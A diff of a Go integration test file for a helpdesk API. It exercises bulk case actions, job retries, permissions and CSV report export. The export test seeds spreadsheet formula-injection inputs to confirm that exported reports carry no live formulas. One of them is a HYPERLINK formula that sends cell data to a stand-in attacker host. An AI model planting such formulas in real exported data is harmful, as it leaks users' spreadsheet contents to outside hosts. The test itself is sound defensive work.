@@ -7,33 +7,33 @@ import (
 	"testing"
 )
 
-// begun asks for a long action, and waits for its end.
+// begun starts a bulk action, and waits for its end.
 func (w *world) begun(c *client, scope string, wanted object) object {
 	w.t.Helper()
 	return w.ended(c, scope+"/jobs/"+text(c.post(scope+"/cases/bulk", wanted).object(w.t), "id"))
 }
 
-// ended waits for the end of a long action.
+// ended waits for the end of a job.
 func (w *world) ended(c *client, path string) object {
 	w.t.Helper()
 	var now object
-	eventually(w.t, "the long action has ended: "+path, func() bool {
+	eventually(w.t, "the job has ended: "+path, func() bool {
 		now = c.get(path).object(w.t)
 		return text(now, "state") == "done" || text(now, "state") == "failed"
 	})
 	return now
 }
 
-// targets names cases as a long action wants them.
+// targets names cases as a bulk action expects them.
 func targets(ids ...string) []object {
-	named := make([]object, len(ids))
+	cases := make([]object, len(ids))
 	for i, id := range ids {
-		named[i] = object{"id": id}
+		cases[i] = object{"id": id}
 	}
-	return named
+	return cases
 }
 
-// outcomes are what became of each of a long action's cases.
+// outcomes returns the outcome for each of a job's cases.
 func outcomes(done object) string {
 	var all []string
 	results, _ := done["results"].([]any)
@@ -52,15 +52,14 @@ func TestALongActionDoesWhatItCanAndSaysWhatBecameOfEachCase(t *testing.T) {
 	for n := range 4 {
 		ids = append(
 			ids,
-			text(
-				w.customer.post(cases, object{"subject": fmt.Sprintf("Case %d", n), "description": "x"}).object(t),
-				"id",
-			),
+			text(w.customer.post(cases, object{"subject": fmt.Sprintf("Case %d", n), "description": "x"}).object(t),
+				"id"),
 		)
 	}
 	const unknown = "99999999-9999-4999-8999-999999999999"
 
-	// Open cases are not put away: each says so. The same request sent twice is done once.
+	// Open cases cannot be archived: each reports that. A request that is sent twice takes effect
+	// once.
 	tagging := object{
 		"action":     "tag",
 		"value":      "winter",
@@ -72,7 +71,7 @@ func TestALongActionDoesWhatItCanAndSaysWhatBecameOfEachCase(t *testing.T) {
 		w.customer.post(cases+"/bulk", tagging).
 			object(t)
 	if text(first, "id") != text(second, "id") {
-		t.Errorf("the same request made two long actions: %v and %v", first, second)
+		t.Errorf("a repeated request created two jobs: %v and %v", first, second)
 	}
 	done := w.ended(w.customer, org+"/jobs/"+text(first, "id"))
 	if text(done, "state") != "failed" || outcomes(done) != "done done done done failed" || done["done"] != 4.0 ||
@@ -85,90 +84,59 @@ func TestALongActionDoesWhatItCanAndSaysWhatBecameOfEachCase(t *testing.T) {
 			t.Errorf("the case is not tagged: %v", got)
 		}
 	}
-	if done := w.begun(
-		w.customer,
-		org,
-		object{"action": "archive", "cases": targets(ids...)},
-	); outcomes(
-		done,
-	) != "failed failed failed failed" {
+	done = w.begun(w.customer, org, object{"action": "archive", "cases": targets(ids...)})
+	if outcomes(done) != "failed failed failed failed" {
 		t.Errorf("open cases were archived: %v", done)
 	}
-	if done := w.begun(
-		w.customer,
-		org,
-		object{"action": "close", "cases": targets(ids[:3]...)},
-	); outcomes(
-		done,
-	) != "done done done" {
+	done = w.begun(w.customer, org, object{"action": "close", "cases": targets(ids[:3]...)})
+	if outcomes(done) != "done done done" {
 		t.Errorf("closed: %v", done)
 	}
 
-	// What failed is done once more, when it can be done.
+	// The failed targets are retried when they can succeed.
 	done = w.begun(w.customer, org, object{"action": "archive", "cases": targets(ids...)})
 	if outcomes(done) != "done done done failed" {
 		t.Fatalf("archived: %v", done)
 	}
 	w.customer.put(cases+"/"+ids[3], object{"status": "closed"})
 	w.customer.post(org+"/jobs/"+text(done, "id")+"/retry", nil)
-	if done = w.ended(
-		w.customer,
-		org+"/jobs/"+text(done, "id"),
-	); outcomes(done) != "done done done done" ||
+	if done = w.ended(w.customer, org+"/jobs/"+text(done, "id")); outcomes(done) != "done done done done" ||
 		text(done, "state") != "done" {
 		t.Errorf("the second time: %v", done)
 	}
-	if got := w.customer.get(cases + "?status=archived").results(t); len(got) != 4 {
+	if got := w.customer.get(cases + "?list=archived").results(t); len(got) != 4 {
 		t.Errorf("archived: %v", subjectsOf(got))
 	}
-	if done := w.begun(
-		w.customer,
-		org,
-		object{"action": "unarchive", "cases": targets(ids...)},
-	); outcomes(
-		done,
-	) != "done done done done" {
-		t.Errorf("taken out of the archive: %v", done)
+	done = w.begun(w.customer, org, object{"action": "unarchive", "cases": targets(ids...)})
+	if outcomes(done) != "done done done done" {
+		t.Errorf("removed from the archive: %v", done)
 	}
 
-	// To delete is for administrators, who type a word; and it can be undone.
+	// Deletion is for administrators, who type a confirmation; and it can be undone.
 	deleting := object{"action": "delete", "cases": targets(ids[0], ids[1]), "confirmation": "DELETE"}
 	w.customer.call(403, "POST", cases+"/bulk", deleting)
 	for _, word := range []string{"", "delete", "DELETE "} {
-		admin.call(
-			400,
-			"POST",
-			cases+"/bulk",
-			object{"action": "delete", "cases": targets(ids[0], ids[1]), "confirmation": word},
-		)
+		admin.call(400, "POST", cases+"/bulk",
+			object{"action": "delete", "cases": targets(ids[0], ids[1]), "confirmation": word})
 	}
 	if done := w.begun(admin, org, deleting); outcomes(done) != "done done" {
 		t.Errorf("deleted: %v", done)
 	}
 	w.customer.call(404, "GET", cases+"/"+ids[0], nil)
-	if got := admin.get(cases + "?status=deleted").results(t); len(got) != 2 {
+	if got := admin.get(cases + "?list=deleted").results(t); len(got) != 2 {
 		t.Errorf("deleted: %v", subjectsOf(got))
 	}
-	if done := w.begun(
-		admin,
-		org,
-		object{"action": "restore", "cases": targets(ids[0], ids[1])},
-	); outcomes(
-		done,
-	) != "done done" {
+	done = w.begun(admin, org, object{"action": "restore", "cases": targets(ids[0], ids[1])})
+	if outcomes(done) != "done done" {
 		t.Errorf("restored: %v", done)
 	}
 	w.customer.get(cases + "/" + ids[0])
 
-	// To assign is for agents; over an MSP each case is named with its organization.
+	// Assignment is for agents; over an MSP, each case is named with its organization.
 	agent := text(w.helpdesk.get("/self").object(t), "admin_id")
 	w.customer.call(403, "POST", cases+"/bulk", object{"action": "assign", "value": agent, "cases": targets(ids...)})
-	w.helpdesk.call(
-		400,
-		"POST",
-		msp+"/cases/bulk",
-		object{"action": "assign", "value": agent, "cases": targets(ids...)},
-	)
+	w.helpdesk.call(400, "POST", msp+"/cases/bulk",
+		object{"action": "assign", "value": agent, "cases": targets(ids...)})
 	done = w.begun(
 		w.helpdesk,
 		msp,
@@ -185,19 +153,23 @@ func TestALongActionDoesWhatItCanAndSaysWhatBecameOfEachCase(t *testing.T) {
 		t.Errorf("the case is assigned to %v", got["assignee"])
 	}
 	if got := w.helpdesk.get(msp + "/jobs").results(t); len(got) != 1 {
-		t.Errorf("the MSP has %d long actions", len(got))
+		t.Errorf("the MSP has %d jobs", len(got))
 	}
 
 	for what, wrong := range map[string]object{
-		"no cases": {"action": "close", "cases": []object{}}, "an unknown action": {"action": "dance", "cases": targets(ids...)}, "no id": {"action": "close", "cases": targets("x")},
-		"a foreign organization": {"action": "close", "cases": []object{{"id": ids[0], "org_id": unknown}}}, "too many": {"action": "close", "cases": targets(make([]string, 1001)...)},
+		"no cases":               {"action": "close", "cases": []object{}},
+		"an unknown action":      {"action": "dance", "cases": targets(ids...)},
+		"no id":                  {"action": "close", "cases": targets("x")},
+		"a foreign organization": {"action": "close", "cases": []object{{"id": ids[0], "org_id": unknown}}},
+		"too many":               {"action": "close", "cases": targets(make([]string, 1001)...)},
 	} {
 		if got := w.customer.call(400, "POST", cases+"/bulk", wrong).object(t); text(got, "detail") == "" {
 			t.Errorf("%s: %v", what, got)
 		}
 	}
 	foreign, job := w.foreigner(), text(done, "id")
-	for _, path := range []string{org + "/jobs", org + "/jobs/" + text(first, "id"), msp + "/jobs", msp + "/jobs/" + job} {
+	for _, path := range []string{org + "/jobs", org + "/jobs/" + text(first, "id"), msp + "/jobs",
+		msp + "/jobs/" + job} {
 		foreign.call(404, "GET", path, nil)
 	}
 	for _, path := range []string{cases + "/bulk", msp + "/cases/bulk"} {
@@ -205,7 +177,7 @@ func TestALongActionDoesWhatItCanAndSaysWhatBecameOfEachCase(t *testing.T) {
 	}
 	foreign.call(404, "POST", org+"/jobs/"+text(first, "id")+"/retry", nil)
 	w.customer.call(404, "GET", msp+"/jobs/"+job, nil)
-	w.customer.call(404, "GET", org+"/jobs/"+job, nil) // it was asked for over the MSP
+	w.customer.call(404, "GET", org+"/jobs/"+job, nil) // it was requested over the MSP
 }
 
 func TestAReportIsFetchedByItsLinkAndHasNoFormulas(t *testing.T) {
@@ -213,7 +185,9 @@ func TestAReportIsFetchedByItsLinkAndHasNoFormulas(t *testing.T) {
 	org := "/orgs/" + w.orgID
 	formula := `=HYPERLINK("http://evil.example/?"&A1,"click")`
 	for _, one := range []object{
-		{"subject": formula, "description": "x", "custom_tag": "@SUM(1+1)"}, {"subject": "Café, \"quoted\" 東京", "description": "x", "severity": 1}, {"subject": "+1 555 0100", "description": "x"},
+		{"subject": formula, "description": "x", "custom_tag": "@SUM(1+1)"},
+		{"subject": "Café, \"quoted\" 東京", "description": "x", "severity": 1},
+		{"subject": "+1 555 0100", "description": "x"},
 		{"subject": "\u2060=1+1", "description": "x"},
 	} {
 		w.customer.post(org+"/cases", one)
@@ -230,7 +204,7 @@ func TestAReportIsFetchedByItsLinkAndHasNoFormulas(t *testing.T) {
 			t.Fatalf("the report: %d %v", got.status, got.header)
 		}
 		content, marked := strings.CutPrefix(string(got.body), "\ufeff")
-		if marked == strings.Contains(query, "byte_order_mark=false") {
+		if marked == strings.Contains(query, "format=plain") {
 			t.Errorf("the report %q begins with a byte order mark: %t", query, marked)
 		}
 		reader := csv.NewReader(strings.NewReader(content))
@@ -254,15 +228,10 @@ func TestAReportIsFetchedByItsLinkAndHasNoFormulas(t *testing.T) {
 			t.Errorf("no row has %q in %q", want, all)
 		}
 	}
-	if got := rows(w.customer, org, "severity=1&separator=%3B&byte_order_mark=false", ';'); len(got) != 2 || got[1][3] != "1" {
+	if got := rows(w.customer, org, "severity=1&separator=%3B&format=plain", ';'); len(got) != 2 || got[1][3] != "1" {
 		t.Errorf("the filtered report is %q", got)
 	}
-	if got := rows(
-		w.helpdesk,
-		"/msps/"+w.mspID,
-		"search=caf%C3%A9&org_id="+w.orgID,
-		',',
-	); len(got) != 2 ||
+	if got := rows(w.helpdesk, "/msps/"+w.mspID, "search=caf%C3%A9&org_id="+w.orgID, ','); len(got) != 2 ||
 		got[1][13] != "Rialto Hotels" {
 		t.Errorf("the agents' report is %q", got)
 	}
